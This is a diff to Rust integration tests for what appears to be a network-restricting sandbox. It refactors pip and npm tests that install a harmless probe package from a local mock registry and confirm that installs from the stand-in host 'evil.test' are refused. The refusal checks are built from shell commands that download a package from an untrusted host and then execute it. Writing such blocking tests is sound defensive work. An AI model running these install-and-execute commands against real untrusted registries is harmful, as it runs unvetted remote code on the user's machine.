@@ -8,6 +8,19 @@ use sha2::{Digest, Sha256, Sha512};
 #[ignore = "needs python3 with pip"]
 async fn pip() {
     let place = place().await;
+    serve_wheel(&place);
+    let out = place.passed(&place.sh(&pip_install(&place.url("/files/simple/"))).await);
+    assert!(out.ends_with("installed\n"), "{out}");
+    let again = pip_install("https://evil.test/simple/").replace(" -q ", " --ignore-installed ");
+    let why = "Could not fetch URL https://evil.test/simple/exeat-probe/: 403 Client Error: Forbidden";
+    place.refused(&place.sh(&again.replace(" --ignore", " -vv --ignore")).await, why);
+    let refusal = "ERROR: No matching distribution found for exeat-probe";
+    place.refused(&place.sh(&again).await, refusal);
+    row(&Row { client: "pip", inside: "HTTP/1.1", needs: NOTHING, refusal });
+}
+
+/// Serves a package and a simple index (PEP 503).
+pub(super) fn serve_wheel(place: &Place) {
     let wheel = "exeat_probe-1.0-py3-none-any.whl";
     let info = "exeat_probe-1.0.dist-info";
     let archive = zip(&[
@@ -16,31 +29,35 @@ async fn pip() {
         (&format!("{info}/WHEEL"), "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
         (&format!("{info}/RECORD"), &format!("exeat_probe.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n")),
     ]);
-    // A simple index (PEP 503).
-    let page =
-        format!("<!DOCTYPE html><a href=\"../../{wheel}#sha256={}\">{wheel}</a>", hex(&Sha256::digest(&archive)));
+    let page = format!(
+        "<!DOCTYPE html><a href=\"../../wheels/{wheel}#sha256={}\">{wheel}</a>",
+        hex(&Sha256::digest(&archive))
+    );
     place.origin.serve_file("simple/exeat-probe/", "text/html", page);
-    place.origin.serve_file(wheel, "application/zip", archive);
-    let install = |index: &str| {
-        format!(
-            "PIP_CONFIG_FILE=/dev/null PYTHONPATH=. python3 -m pip install -q --retries=0 \
-             --disable-pip-version-check --target=. --index-url={index} exeat-probe && python3 -m exeat_probe"
-        )
-    };
-    let out = place.passed(&place.sh(&install(&place.url("/files/simple/"))).await);
-    assert!(out.ends_with("installed\n"), "{out}");
-    let again = install("https://evil.test/simple/").replace(" -q ", " --ignore-installed ");
-    let why = "Could not fetch URL https://evil.test/simple/exeat-probe/: 403 Client Error: Forbidden";
-    place.refused(&place.sh(&again.replace(" --ignore", " -vv --ignore")).await, why);
-    let refusal = "ERROR: No matching distribution found for exeat-probe";
-    place.refused(&place.sh(&again).await, refusal);
-    row(&Row { client: "pip", inside: "HTTP/1.1", needs: NOTHING, refusal });
+    place.origin.serve_file(&format!("wheels/{wheel}"), "application/zip", archive);
+}
+
+pub(super) fn pip_install(index: &str) -> String {
+    format!(
+        "PIP_CONFIG_FILE=/dev/null PYTHONPATH=. python3 -m pip install -q --retries=0 --no-cache-dir \
+         --disable-pip-version-check --target=. --index-url={index} exeat-probe && python3 -m exeat_probe"
+    )
 }
 
 #[tokio::test(flavor = "multi_thread")]
 #[ignore = "needs npm"]
 async fn npm() {
     let place = place().await;
+    serve_npm_package(&place);
+    let out = place.passed(&place.sh(&npm_install(&place.url("/files/npm/"), "app")).await);
+    assert!(out.ends_with("installed\n"), "{out}");
+    let refusal = "npm error code E403";
+    place.refused(&place.sh(&npm_install("https://evil.test/", "other")).await, refusal);
+    row(&Row { client: "npm", inside: "HTTP/1.1", needs: NOTHING, refusal });
+}
+
+/// Serves a package and its document.
+pub(super) fn serve_npm_package(place: &Place) {
     let package = tar(
         place.dir(),
         "package",
@@ -57,25 +74,21 @@ async fn npm() {
             "name": "exeat-probe",
             "version": "1.0.0",
             "dist": {
-                "tarball": place.url("/files/exeat-probe-1.0.0.tgz"),
+                "tarball": place.url("/files/npm/exeat-probe/-/exeat-probe-1.0.0.tgz"),
                 "integrity": format!("sha512-{integrity}"),
             },
         } },
     });
     place.origin.serve_file("npm/exeat-probe", "application/json", document.to_string());
-    place.origin.serve_file("exeat-probe-1.0.0.tgz", "application/octet-stream", package);
-    let install = |registry: &str| {
-        format!(
-            "mkdir -p app && cd app && npm install --no-audit --no-fund --no-update-notifier --fetch-retries=0 \
-             --registry={registry} exeat-probe && node -e 'require(\"exeat-probe\")'"
-        )
-    };
-    let out = place.passed(&place.sh(&install(&place.url("/files/npm/"))).await);
-    assert!(out.ends_with("installed\n"), "{out}");
-    let again = install("https://evil.test/").replace("app", "other");
-    let refusal = "npm error code E403";
-    place.refused(&place.sh(&again).await, refusal);
-    row(&Row { client: "npm", inside: "HTTP/1.1", needs: NOTHING, refusal });
+    place.origin.serve_file("npm/exeat-probe/-/exeat-probe-1.0.0.tgz", "application/octet-stream", package);
+}
+
+/// Installs the package into a folder, with a cache of its own.
+pub(super) fn npm_install(registry: &str, folder: &str) -> String {
+    format!(
+        "mkdir -p {folder} && cd {folder} && npm install --no-audit --no-fund --no-update-notifier --fetch-retries=0 \
+         --cache=./cache --registry={registry} exeat-probe && node -e 'require(\"exeat-probe\")'"
+    )
 }
 
 #[tokio::test(flavor = "multi_thread")]
